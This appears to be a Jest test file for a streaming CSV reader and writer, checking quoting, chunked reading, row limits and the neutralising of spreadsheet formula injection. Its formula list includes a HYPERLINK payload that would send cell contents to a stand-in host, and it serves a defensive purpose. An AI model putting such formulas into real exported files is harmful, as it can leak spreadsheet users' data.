import { describe, expect, it } from '@jest/globals';
import { csvRow, csvRows } from './csv.js';
import { MalformedImport } from './errors.js';

async function* inChunks(text: string, length: number): AsyncGenerator<string> {
  for (let i = 0; i < text.length; i += length) yield Promise.resolve(text.slice(i, i + length));
}

const read = async (text: string, length: number): Promise<string[][]> => {
  const rows: string[][] = [];
  for await (const row of csvRows(inChunks(text, length))) rows.push(row);
  return rows;
};

describe('CSV', () => {
  const rows = [
    ['endpoint_name', 'description'],
    ['a,b', 'says "hello"'],
    ['', 'two\r\nlines'],
    ['ü☀', '"'],
  ];

  it.each([1, 2, 7, 1_000])('what is written is read, in pieces of %i', async (length) => {
    expect(await read(rows.map(csvRow).join(''), length)).toEqual(rows);
  });

  const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=HYPERLINK("http://a/?"&A1,"b")'];

  it.each(formulas)('%j at the start of a cell is a text to a spreadsheet, and read as it was', async (text) => {
    for (const cell of [text, `'${text}`, `''${text}`]) {
      const line = csvRow([cell, 'b']);
      expect(line).toMatch(/^"?'/);
      expect(await read(line, 1)).toEqual([[cell, 'b']]);
    }
  });

  it.each(["it's", "'quoted'", 'a=b', '1-2', "'"])('%j stays as it is', async (text) => {
    expect(csvRow([text])).toBe(`${text}\r\n`);
    expect(await read(csvRow([text]), 1)).toEqual([[text]]);
  });

  it('a formula that a table brings without the apostrophe is taken as it is', async () => {
    expect(await read("=1,'x,-5\r\n", 100)).toEqual([['=1', "'x", '-5']]);
  });

  it('takes a byte order mark, bare line ends and a last line without end; an empty line is a row of one cell', async () => {
    expect(await read('\uFEFFa,b\n\n1,2\n3,', 1)).toEqual([['a', 'b'], [''], ['1', '2'], ['3', '']]);
  });

  it.each([
    [
      'a,5" pipe\nb,5" pipe\n',
      [
        ['a', '5" pipe'],
        ['b', '5" pipe'],
      ],
    ],
    ['a,say "so, and"\n', [['a', 'say "so', ' and"']]],
    ['"a"b,"c""d"\r\n', [['"a"b', 'c"d']]],
    ['"",""\n', [['', '']]],
  ])('a quote within a cell without quotes is a character: %j', async (text, rows) => {
    for (const length of [1, 100]) expect(await read(text, length)).toEqual(rows);
  });

  it('refuses a quote that is not closed, and a row without end', async () => {
    await expect(read('a\n"b', 1)).rejects.toThrow(MalformedImport);
    await expect(read('x'.repeat(70_000), 1_000)).rejects.toThrow(MalformedImport);
  });

  it('limits a row by characters, whatever their number of bytes', async () => {
    const longest = '\u{1F600}'.repeat(65_536);
    expect(await read(longest, 1_000)).toEqual([[longest]]);
    await expect(read(`${longest}x`, 1_000)).rejects.toThrow(MalformedImport);
  });

  it('leaves turns of the event loop to others while it reads a chunk of many rows', async () => {
    let turns = 0;
    let isOver = false;
    const turn = (): void => {
      turns++;
      if (!isOver) setImmediate(turn);
    };
    setImmediate(turn);
    expect(await read('\n'.repeat(16_384), 16_384)).toHaveLength(16_384);
    isOver = true;
    expect(turns).toBeGreaterThan(10);
  });

  it('passes on why its text ends', async () => {
    const broken = (async function* () {
      yield 'a,b\n';
      throw await Promise.resolve(new MalformedImport('Not UTF-8'));
    })();
    const rows = csvRows(broken);
    await expect(rows.next().then(() => rows.next())).rejects.toThrow(MalformedImport);
  });
});
